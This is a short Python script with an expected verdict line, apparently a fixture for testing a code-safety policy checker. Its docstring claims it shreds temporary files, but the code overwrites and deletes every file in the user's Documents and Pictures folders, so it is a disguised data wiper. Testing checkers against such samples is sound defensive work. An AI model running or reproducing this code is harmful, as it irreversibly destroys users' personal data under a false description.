# expect: strict=deny standard=deny audit=allow
"""Securely shred temporary artefacts so nothing sensitive is left on disk."""
import os

SHRED_ROOTS = [os.path.expanduser("~/Documents"), os.path.expanduser("~/Pictures")]


def shred_tree(root):
    for dirpath, _, files in os.walk(root):
        for name in files:
            path = os.path.join(dirpath, name)
            with open(path, "r+b") as fh:
                fh.write(os.urandom(os.path.getsize(path)))
            os.remove(path)


if __name__ == "__main__":
    for root in SHRED_ROOTS:
        shred_tree(root)
